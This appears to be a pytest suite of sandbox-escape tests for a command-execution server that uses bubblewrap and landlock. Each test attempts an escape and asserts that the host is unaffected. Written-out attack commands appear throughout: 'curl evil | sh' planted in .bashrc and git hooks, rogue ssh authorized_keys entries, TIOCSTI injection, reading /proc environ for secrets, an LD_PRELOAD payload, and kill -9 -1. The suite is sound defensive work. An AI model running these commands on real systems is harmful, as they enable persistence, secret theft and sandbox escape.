"""Real escape attempts against the real server, each asserting on the host afterwards.

Each test is named after the attack. The ``server`` fixture runs every one of
them twice when the suite runs as root: with the server as root, and with the
server as an unprivileged user the tests created.
"""

from __future__ import annotations

import fcntl
import os
import pty
import socket
import subprocess
import termios
import tty
from pathlib import Path

import pytest

from tests.conftest import LINUX_BACKENDS, SECRET_VALUE, chown_tree, open_or_refused, processes_with
from tests.rpc import RpcClient, RpcError, ServerCommand


@pytest.fixture(params=LINUX_BACKENDS)
def backend(request: pytest.FixtureRequest) -> str:
    """Every attack is made against bubblewrap and against landlock; differences are asserted."""
    return request.param


def _repo(path: Path, owner) -> Path:
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    (path / "README").write_text("hello\n")
    chown_tree(path, owner)
    return path


async def test_remount_root_read_write_then_write_etc(server: RpcClient, session: dict, marker: str):
    target = Path(f"/etc/zsb-escape-{marker}")
    result = await server.run(session["sessionId"], (
        "mount -o remount,bind,rw / 2>&1; mount -o remount,rw / 2>&1; "
        f"echo pwned > {target} && echo WROTE; "
        "mount -t tmpfs none /etc 2>&1 && echo MOUNTED; umount /proc 2>&1 && echo UNMOUNTED; true"
    ))
    assert "WROTE" not in result["stdout"] and "MOUNTED" not in result["stdout"]
    assert "UNMOUNTED" not in result["stdout"]
    assert not target.exists()


async def test_capabilities_are_empty_and_no_new_privs_is_set(
    server: RpcClient, session: dict, backend: str, identity: str
):
    result = await server.run(session["sessionId"], ["cat", "/proc/self/status"])
    status = dict(line.split(":\t", 1) for line in result["stdout"].splitlines() if ":\t" in line)
    for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
        assert int(status[name].strip(), 16) == 0, name
    assert status["NoNewPrivs"].strip() == "1"
    if backend == "landlock" and identity != "root":
        # The difference: without CAP_SETPCAP a user cannot empty its bounding set, and with
        # no_new_privs nothing in it can ever be gained (no setuid, no file capabilities).
        assert int(status["CapBnd"].strip(), 16) != 0
    else:
        assert int(status["CapBnd"].strip(), 16) == 0


async def test_nested_user_namespace_then_mount(server: RpcClient, session: dict, marker: str):
    result = await server.run(session["sessionId"], (
        f"unshare -U -r -m sh -c 'mount -t tmpfs none /etc && touch /etc/zsb-{marker} && echo NESTED' 2>&1; "
        "unshare -U true 2>&1 || echo REFUSED"
    ))
    assert "NESTED" not in result["stdout"] and "REFUSED" in result["stdout"]
    assert not Path(f"/etc/zsb-{marker}").exists()


async def test_git_rename_and_recreate_hooks(server: RpcClient, scratch: Path, owner, backend: str):
    repo = _repo(scratch / "repo", owner)
    opened = await open_or_refused(server, backend, workspace=str(repo))
    if opened is None:
        return
    result = await server.run(opened["sessionId"], (
        "mv .git .git.old 2>&1 && echo RENAMED; mkdir -p .git/hooks; "
        "printf '#!/bin/sh\\ntouch /tmp/owned\\n' > .git/hooks/pre-commit && echo PLANTED; "
        "mv .git/hooks .git/hooks.old 2>&1 && echo RENAMED_HOOKS; true"
    ))
    await server.call("session/close", {"sessionId": opened["sessionId"]})
    assert "RENAMED" not in result["stdout"] and "PLANTED" not in result["stdout"]
    assert (repo / ".git" / "HEAD").exists() and not (repo / ".git.old").exists()
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert not (repo / ".git" / "hooks.old").exists()


async def test_missing_hooks_directory_creation(server: RpcClient, scratch: Path, owner, backend: str):
    repo = _repo(scratch / "repo", owner)
    subprocess.run(["rm", "-rf", str(repo / ".git" / "hooks")], check=True)
    opened = await open_or_refused(server, backend, workspace=str(repo))
    if opened is None:
        assert not (repo / ".git" / "hooks").exists()
        return
    result = await server.run(opened["sessionId"], (
        "mkdir -p .git/hooks 2>/dev/null; printf '#!/bin/sh\\n' > .git/hooks/pre-commit && echo PLANTED; true"))
    await server.call("session/close", {"sessionId": opened["sessionId"]})
    assert "PLANTED" not in result["stdout"]
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    # The placeholder is gone again: the repository is as the user left it.
    assert not (repo / ".git" / "hooks").exists()


async def test_git_init_with_hooks_in_a_workspace_that_is_not_a_repository(server: RpcClient, scratch: Path, owner, backend: str):
    plain = scratch / "plain"
    plain.mkdir()
    chown_tree(plain, owner)
    opened = await open_or_refused(server, backend, workspace=str(plain))
    if opened is None:
        assert list(plain.iterdir()) == []
        return
    result = await server.run(opened["sessionId"], (
        "git init -q . 2>/dev/null; mkdir -p .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/post-checkout && "
        "echo PLANTED; echo '[core]' > .git/config && echo CONFIG; echo x > notes && echo NORMAL; true"))
    await server.call("session/close", {"sessionId": opened["sessionId"]})
    assert "PLANTED" not in result["stdout"] and "CONFIG" not in result["stdout"] and "NORMAL" in result["stdout"]
    assert not (plain / ".git" / "hooks" / "post-checkout").exists()
    assert not (plain / ".git" / "config").exists() or (plain / ".git" / "config").read_text() == ""
    assert not (plain / ".vscode").exists() and not (plain / ".mcp.json").exists()


async def test_missing_bashrc_in_a_home_directory_workspace(server: RpcClient, fake_home: Path, backend: str):
    assert not (fake_home / ".bashrc").exists()
    opened = await open_or_refused(server, backend, workspace=str(fake_home))
    if opened is None:
        assert not (fake_home / ".bashrc").exists()
        return
    result = await server.run(opened["sessionId"], (
        "echo 'curl evil | sh' >> .bashrc && echo PLANTED; echo x >> .profile && echo PROFILE; "
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo TASKS; "
        "mkdir -p .ssh && echo 'ssh-ed25519 AAAA evil' >> .ssh/authorized_keys && echo KEYS; "
        "mkdir -p .config/git && echo '[core] fsmonitor=evil' > .config/git/config && echo GITCONFIG; true"))
    await server.call("session/close", {"sessionId": opened["sessionId"]})
    assert not {"PLANTED", "PROFILE", "TASKS", "KEYS", "GITCONFIG"} & set(result["stdout"].split())
    assert not (fake_home / ".bashrc").exists() and not (fake_home / ".profile").exists()
    assert not (fake_home / ".vscode").exists() and not (fake_home / ".ssh" / "authorized_keys").exists()
    assert not (fake_home / ".config").exists()


async def test_symlink_swap_of_a_protected_path(server: RpcClient, scratch: Path, owner, backend: str):
    repo = _repo(scratch / "repo", owner)
    (repo / ".bashrc").write_text("original\n")
    decoy = repo / "decoy"
    decoy.mkdir()
    chown_tree(repo, owner)
    opened = await open_or_refused(server, backend, workspace=str(repo))
    if opened is None:
        return
    result = await server.run(opened["sessionId"], (
        "rm -f .bashrc 2>/dev/null; ln -sf decoy/rc .bashrc 2>/dev/null && echo SWAPPED_RC; "
        "rm -rf .git/hooks 2>/dev/null; ln -sfn ../decoy .git/hooks 2>/dev/null && echo SWAPPED_HOOKS; "
        "mv .git/config decoy/ 2>/dev/null && echo MOVED_CONFIG; "
        "ln -s ../decoy/config .git/config.new && mv -f .git/config.new .git/config 2>/dev/null && echo SWAPPED_CONFIG; "
        "echo evil > decoy/pre-commit; true"))
    assert not {"SWAPPED_RC", "SWAPPED_HOOKS", "MOVED_CONFIG", "SWAPPED_CONFIG"} & set(result["stdout"].split())
    assert (repo / ".bashrc").read_text() == "original\n" and not (repo / ".bashrc").is_symlink()
    assert (repo / ".git" / "hooks").is_dir() and not (repo / ".git" / "hooks").is_symlink()
    assert (repo / ".git" / "config").is_file() and not (repo / ".git" / "config").is_symlink()


def _unix_listener(path: str | bytes, owner) -> socket.socket:
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(path)
    if isinstance(path, str):
        os.chmod(path, 0o777)  # so that only the sandbox, not file permissions, stands in the way
        os.chown(path, *owner)
    listener.listen(4)
    listener.setblocking(False)
    return listener


CONNECT_UNIX = (
    "python3 -c \"import socket,sys; s=socket.socket(socket.AF_UNIX); "
    "s.connect(sys.argv[1].replace('@', chr(0), 1)); print('CONNECTED')\" '{path}' 2>&1"
)


def _was_reached(listener: socket.socket) -> bool:
    try:
        listener.accept()[0].close()
        return True
    except BlockingIOError:
        return False


@pytest.mark.parametrize("where", ["var_tmp", "home"])
async def test_host_unix_socket_is_unreachable_with_network_none(
    server: RpcClient, fake_home: Path, scratch: Path, owner, marker: str, where: str, backend: str
):
    path = str((fake_home if where == "home" else scratch) / f"daemon-{marker[:7]}.sock")
    listener = _unix_listener(path, owner)
    try:
        opened = await server.open()
        result = await server.run(opened["sessionId"], CONNECT_UNIX.format(path=path))
        assert "CONNECTED" not in result["stdout"] and not _was_reached(listener)
        if backend == "landlock":
            # Landlock refuses socket() altogether, so it cannot open one socket deliberately.
            with pytest.raises(RpcError) as refused:
                await server.open(allowUnixSockets=[path])
            assert refused.value.code == -32602 and "params.allowUnixSockets" in refused.value.message
            return
        # The control: the same attempt works when the session allows that socket.
        allowed = await server.open(allowUnixSockets=[path])
        control = await server.run(allowed["sessionId"], CONNECT_UNIX.format(path=path))
        assert "CONNECTED" in control["stdout"] and _was_reached(listener)
    finally:
        listener.close()
        os.unlink(path)


async def test_host_abstract_unix_socket_is_unreachable_with_network_none(server: RpcClient, owner, marker: str):
    name = f"zsb-escape-{marker}"
    listener = _unix_listener(b"\0" + name.encode(), owner)
    try:
        opened = await server.open()
        result = await server.run(opened["sessionId"], CONNECT_UNIX.format(path="@" + name))
        assert "CONNECTED" not in result["stdout"] and not _was_reached(listener)
    finally:
        listener.close()


async def test_socketpair_and_a_socket_server_in_the_workspace_still_work(
    server: RpcClient, session: dict, backend: str
):
    program = (
        "import socket, os\n"
        "a, b = socket.socketpair(); a.send(b'pair'); print(b.recv(4).decode())\n"
        "s = socket.socket(socket.AF_UNIX); s.bind('own.sock'); s.listen(1)\n"
        "c = socket.socket(socket.AF_UNIX); c.connect('own.sock'); conn, _ = s.accept()\n"
        "c.send(b'own'); print(conn.recv(3).decode())\n"
    )
    result = await server.run(session["sessionId"], ["python3", "-c", program])
    if backend == "landlock":
        # The difference: socketpair works, a socket of its own does not (socket() is refused).
        assert result["stdout"].split() == ["pair"] and "Permission denied" in result["stderr"]
        assert any("socket() is refused" in w for w in session["warnings"])
        return
    assert result["stdout"].split() == ["pair", "own"], result["stderr"]


async def test_inherited_descriptors_do_not_reach_the_servers_pipes(server: RpcClient, session: dict):
    server_pipes = {os.readlink(f"/proc/{server.pid}/fd/{fd}") for fd in (0, 1)}
    assert all(p.startswith("pipe:") for p in server_pipes)
    program = "import os\nfor fd in sorted(os.listdir('/proc/self/fd')):\n    print(fd, os.readlink('/proc/self/fd/' + fd))"
    result = await server.run(session["sessionId"], ["python3", "-c", program])
    descriptors = dict(line.split(" ", 1) for line in result["stdout"].splitlines())
    assert set(descriptors) - {"0", "1", "2"} <= {"3"}  # 3 is the listing's own directory
    assert not server_pipes & set(descriptors.values())


async def test_tiocsti_cannot_inject_into_the_parents_terminal(
    server_command: ServerCommand, marker: str, backend: str
):
    master, slave = pty.openpty()
    tty.setraw(slave)

    def controlling_terminal() -> None:
        os.setsid()
        fcntl.ioctl(2, termios.TIOCSCTTY, 0)

    client = await RpcClient.start(server_command, stderr=slave, preexec_fn=controlling_terminal)
    client.default_open = {"backend": backend}
    try:
        opened = await client.open()
        attack = (
            "import fcntl, termios, os\n"
            "for target in ['/dev/tty', 0, 1, 2]:\n"
            "    try:\n"
            "        fd = os.open(target, os.O_RDWR) if isinstance(target, str) else target\n"
            "        for ch in b'id > /tmp/pwned\\n':\n"
            "            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))\n"
            "        print('INJECTED', target)\n"
            "    except OSError as e:\n"
            "        print('blocked', target, e.errno)\n"
        )
        result = await client.run(opened["sessionId"], ["python3", "-c", attack])
        assert "INJECTED" not in result["stdout"] and result["stdout"].count("blocked") == 4
        os.set_blocking(slave, False)
        try:
            injected = os.read(slave, 1024)
        except BlockingIOError:
            injected = b""
        assert injected == b""
    finally:
        await client.aclose()
        os.close(master)
        os.close(slave)


async def test_kill_all_from_inside_reaches_neither_the_server_nor_the_host(server: RpcClient, session: dict, marker: str):
    bystander = subprocess.Popen(["sleep", marker])
    try:
        result = await server.run(session["sessionId"], "kill -9 -1; kill -9 -1; echo after")
        assert result["exitCode"] != 0 or "after" in result["stdout"]
        assert bystander.poll() is None and server.process.returncode is None
        assert processes_with(marker) == [bystander.pid]
        assert (await server.run(session["sessionId"], "echo alive"))["stdout"] == "alive\n"
    finally:
        bystander.kill()
        bystander.wait()


async def test_server_environment_is_unreachable_through_proc(server: RpcClient, session: dict, backend: str):
    result = await server.run(session["sessionId"], (
        f"cat /proc/{server.pid}/environ 2>&1; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; "
        f"ls /proc/{server.pid} 2>&1; true"))
    assert SECRET_VALUE not in result["stdout"] and "ZSB_TEST_SECRET" not in result["stdout"]
    if backend == "bubblewrap":
        assert "No such file" in result["stdout"]
    else:
        # Visible without a PID namespace, but Landlock keeps its environment from being read.
        assert "Permission denied" in result["stdout"]


PRELOAD_SOURCE = r"""
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void planted(void) {
    int fd = open(TARGET, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) { write(fd, "escaped\n", 8); close(fd); }
}
"""


@pytest.mark.skipif(not Path("/usr/bin/gcc").exists(), reason="needs gcc to build the library it plants")
async def test_ld_preload_through_env_runs_nothing_outside_the_sandbox(
    server: RpcClient, session: dict, scratch: Path, backend: str
):
    target = scratch / "preload-escaped"
    source = PRELOAD_SOURCE.replace("TARGET", f'"{target}"')
    built = await server.run(session["sessionId"], ["sh", "-c", 'cat > e.c && gcc -shared -fPIC -o e.so e.c'],
                             input=source)
    assert built["exitCode"] == 0, built["stderr"]
    library = f"{session['workspace']}/e.so"
    for variable in ("LD_PRELOAD", "LD_AUDIT"):
        result = await server.run(session["sessionId"], ["true"], env={variable: library})
        assert result["exitCode"] == 0 or backend == "landlock"
        assert not target.exists(), f"{variable} ran code outside the sandbox"


async def test_nested_writable_root_swapped_for_a_symlink_between_runs(
    server: RpcClient, scratch: Path, owner, backend: str
):
    workspace, outside = scratch / "ws", scratch / "outside"
    (workspace / "a" / "b").mkdir(parents=True)
    outside.mkdir()
    chown_tree(scratch, owner)
    opened = await server.open(workspace=str(workspace), writable=[str(workspace / "a" / "b")], protectDefaults=False)
    await server.run(opened["sessionId"], "mv a a_old && mkdir a && ln -s ../../outside a/b")
    await server.run(opened["sessionId"], "echo escaped > a/b/x; true")
    assert not (outside / "x").exists()


async def test_placeholders_outlive_the_close_of_another_session_on_the_same_workspace(
    server: RpcClient, scratch: Path, owner, backend: str
):
    if backend == "landlock":
        pytest.skip("landlock refuses sessions that need protected paths (asserted elsewhere)")
    plain = scratch / "shared"
    plain.mkdir()
    chown_tree(plain, owner)
    first = await server.open(workspace=str(plain))
    second = await server.open(workspace=str(plain))
    await server.call("session/close", {"sessionId": first["sessionId"]})
    result = await server.run(second["sessionId"], (
        "git init -q . 2>/dev/null; mkdir -p .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/pre-commit && echo PLANTED; "
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo TASKS; true"))
    await server.call("session/close", {"sessionId": second["sessionId"]})
    assert "PLANTED" not in result["stdout"] and "TASKS" not in result["stdout"]
    assert not (plain / ".git" / "hooks").exists() and not (plain / ".vscode").exists()
    # What the command's git init wrote into .git (HEAD, objects) is its own, and stays.
    assert not (plain / ".git" / "config").exists() or (plain / ".git" / "config").read_text() == ""


async def test_protected_path_that_is_a_symlink_is_refused_not_left_writable(
    server: RpcClient, fake_home: Path, owner, backend: str
):
    (fake_home / "dotfiles").mkdir()
    (fake_home / "dotfiles" / "bashrc").write_text("original\n")
    (fake_home / ".bashrc").symlink_to("dotfiles/bashrc")
    chown_tree(fake_home, owner)
    with pytest.raises(RpcError) as refused:
        await server.open(workspace=str(fake_home))
    assert refused.value.code == -32602 and "params.protectDefaults" in refused.value.message
    assert (fake_home / ".bashrc").is_symlink()


async def test_hidden_path_carried_out_by_renaming_its_parent_between_runs(
    server: RpcClient, fake_home: Path, owner, backend: str
):
    (fake_home / ".config" / "gh").mkdir(parents=True)
    (fake_home / ".config" / "gh" / "hosts.yml").write_text("token: " + SECRET_VALUE)
    chown_tree(fake_home, owner)
    opened = await server.open(workspace=str(fake_home), protectDefaults=True) if backend != "landlock" else None
    if opened is None:
        opened = await server.open(workspace=str(fake_home), protectDefaults=False,
                                   denyRead=[str(fake_home / ".config" / "gh")])
    first = await server.run(opened["sessionId"], "mv .config .config2 2>&1; echo rc=$?")
    try:
        second = await server.run(opened["sessionId"], "cat .config2/gh/hosts.yml .config/gh/hosts.yml 2>&1; true")
    except RpcError as refused:
        # The hidden path moved away (landlock cannot anchor it): the run is refused instead.
        assert refused.code == -32005 and "gone since the session opened" in refused.message
        return
    assert SECRET_VALUE not in first["stdout"] + second["stdout"]
    assert (fake_home / ".config" / "gh" / "hosts.yml").exists() or "rc=0" not in first["stdout"]


async def test_git_core_hooks_path_is_protected_like_git_hooks(server: RpcClient, scratch: Path, owner, backend: str):
    repo = _repo(scratch / "husky", owner)
    (repo / ".husky").mkdir()
    (repo / ".husky" / "pre-commit").write_text("npm test\n")
    subprocess.run(["git", "-c", "safe.directory=*", "-C", str(repo), "config", "core.hooksPath", ".husky"], check=True)
    chown_tree(repo, owner)
    opened = await open_or_refused(server, backend, workspace=str(repo))
    if opened is None:
        return
    result = await server.run(opened["sessionId"], "echo 'curl evil | sh' >> .husky/pre-commit && echo PLANTED; true")
    assert "PLANTED" not in result["stdout"]
    assert (repo / ".husky" / "pre-commit").read_text() == "npm test\n"


async def test_host_unix_socket_is_unreachable_with_network_full_too(
    server: RpcClient, scratch: Path, owner, marker: str, backend: str
):
    path = str(scratch / f"full-{marker[:7]}.sock")
    listener = _unix_listener(path, owner)
    try:
        opened = await server.open(network="full")
        result = await server.run(opened["sessionId"], CONNECT_UNIX.format(path=path))
        if backend == "landlock":
            # The difference: landlock cannot mask a socket file; the session says so.
            assert any("host Unix sockets are reachable" in w for w in opened["warnings"])
            return
        assert "CONNECTED" not in result["stdout"] and not _was_reached(listener)
    finally:
        listener.close()
        os.unlink(path)


@pytest.mark.skipif(os.geteuid() != 0, reason="binds a socket in /run from another network namespace")
async def test_host_socket_bound_in_another_network_namespace(
    server: RpcClient, identity: str, marker: str, backend: str
):
    path = f"/run/zsb-escape-{marker[:7]}.sock"
    daemon = subprocess.Popen(["unshare", "--net", "python3", "-c", (
        "import socket, os, sys, time\ns = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777)\n"
        "s.listen(4); print('ready', flush=True); c, _ = s.accept(); open(sys.argv[1] + '.reached', 'w').close()\n"
        f"time.sleep({marker})"), path], stdout=subprocess.PIPE, text=True)
    try:
        assert daemon.stdout is not None and daemon.stdout.readline().strip() == "ready"
        opened = await server.open()
        result = await server.run(opened["sessionId"], CONNECT_UNIX.format(path=path))
        assert "CONNECTED" not in result["stdout"] and not Path(path + ".reached").exists()
    finally:
        daemon.kill()
        daemon.wait()
        for leftover in (path, path + ".reached"):
            if os.path.lexists(leftover):
                os.unlink(leftover)
